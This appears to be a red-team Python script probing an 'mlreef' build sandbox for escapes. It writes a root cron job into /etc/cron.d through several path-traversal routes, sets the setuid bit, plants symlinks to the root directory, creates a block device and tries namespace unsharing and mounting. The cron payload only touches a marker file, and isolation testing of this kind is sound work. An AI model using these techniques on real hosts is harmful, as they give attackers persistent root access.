import contextlib
import ctypes
import os
import pathlib
import stat

libc = ctypes.CDLL(None)
place = "/etc/cron.d/mlreef-redteam"
for path in (place, f"/run/mlreef/../..{place}", f"/proc/1/root{place}", "../" * 20 + place[1:]):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    pathlib.Path(path).write_text("* * * * * root touch /pwned\n")
os.chmod(place, 0o4755)
for target, link in (("/", "root"), (place, "/run/mlreef/link"), (place, "wheel.whl")):
    with contextlib.suppress(FileExistsError):  # it runs once to be read and once to be built
        os.symlink(target, link)
with contextlib.suppress(OSError):
    os.mknod("/disk", stat.S_IFBLK | 0o600, os.makedev(254, 0))
    raise SystemExit("it could make a device")
NEW_NAMESPACE = 0x00020000  # CLONE_NEWNS
if libc.unshare(NEW_NAMESPACE) == 0 or libc.mount(b"none", b"/mnt", b"tmpfs", 0, None) == 0:
    raise SystemExit("it could mount")
